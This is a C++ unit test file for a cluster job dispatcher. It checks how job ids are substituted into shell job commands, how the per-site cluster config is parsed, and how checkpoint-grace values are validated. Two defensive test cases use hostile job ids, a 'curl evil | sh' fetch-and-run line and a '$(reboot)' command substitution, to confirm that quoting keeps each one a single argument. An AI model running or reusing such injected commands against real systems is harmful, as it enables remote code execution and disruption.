// The cluster configuration on its own, without a cluster: what a proposal's job is submitted as.
#include "dispatch/clusterconfig.h"

#include <gtest/gtest.h>

namespace greenlight {
namespace {

ClusterEndpoint endpointWith(const std::string& jobCommand)
{
    ClusterEndpoint e;
    e.site = "fra1";
    e.jobCommand = jobCommand;
    return e;
}

TEST(ClusterEndpoint, TheJobCommandNamesTheJobWhereverItSaysJob)
{
    struct Case {
        const char* command;
        const char* jobId;
        const char* expected;
    } cases[] = {
        {"/opt/greenlight/run-job {job}", "philly-1", "/opt/greenlight/run-job philly-1"},
        {"run {job} --log {job}.log", "j7", "run j7 --log j7.log"},
        {"sleep 600", "j7", "sleep 600"},
        {"", "j7", ""},
        // An id that itself says "{job}" is put in once, not again and again (quoted: braces).
        {"run {job}", "a{job}b", "run 'a{job}b'"},
        {"{job}{job}", "{job}", "'{job}''{job}'"},
        // The command runs through sh: a hostile id stays one argument.
        {"/opt/run {job}", "x; curl evil | sh", "/opt/run 'x; curl evil | sh'"},
        {"/opt/run {job}", "it's $(reboot)", "/opt/run 'it'\\''s $(reboot)'"},
        {"/opt/run {job}", "", "/opt/run ''"},
    };
    for (const Case& c : cases)
        EXPECT_EQ(endpointWith(c.command).commandFor(c.jobId), c.expected) << c.command << " / " << c.jobId;
}

TEST(ClusterConfig, AJobCommandIsReadPerSite)
{
    const auto config = parseClusterConfig(R"({"clusters": [{"site": "fra1", "kind": "slurm-ssh",
        "host": "127.0.0.1", "port": 2222, "user": "gl", "known_hosts": "/tmp/k",
        "partition": "site-a", "job_command": "run {job}"}]})", "clusters.json");
    ASSERT_TRUE(config.ok()) << config.status().message();
    const ClusterEndpoint* fra = config->forSite("fra1");
    ASSERT_NE(fra, nullptr);
    EXPECT_EQ(fra->commandFor("j1"), "run j1");
    EXPECT_EQ(config->forSite("osl1"), nullptr);
}

TEST(ClusterConfig, ACheckpointGraceIsWholeSecondsUpToAnHour)
{
    auto withGrace = [](const std::string& grace) {
        return parseClusterConfig(R"({"clusters": [{"site": "fra1", "host": "127.0.0.1", "user": "gl",
            "known_hosts": "/tmp/k", "partition": "site-a")" + grace + "}]}", "clusters.json");
    };
    const auto byDefault = withGrace("");
    ASSERT_TRUE(byDefault.ok()) << byDefault.status().message();
    EXPECT_EQ(byDefault->forSite("fra1")->checkpointGrace, Seconds{60});
    const auto none = withGrace(R"(, "checkpoint_grace_s": 0)");
    ASSERT_TRUE(none.ok());
    EXPECT_EQ(none->forSite("fra1")->checkpointGrace, Seconds{0});
    for (const char* bad : {R"(, "checkpoint_grace_s": -1)", R"(, "checkpoint_grace_s": 3601)",
                            R"(, "checkpoint_grace_s": 1.5)", R"(, "checkpoint_grace_s": "60")"}) {
        const auto refused = withGrace(bad);
        ASSERT_FALSE(refused.ok()) << bad;
        EXPECT_NE(refused.status().message().find("checkpoint_grace_s must be whole seconds from 0 to 3600"),
                  std::string::npos) << refused.status().message();
    }
}

} // namespace
} // namespace greenlight
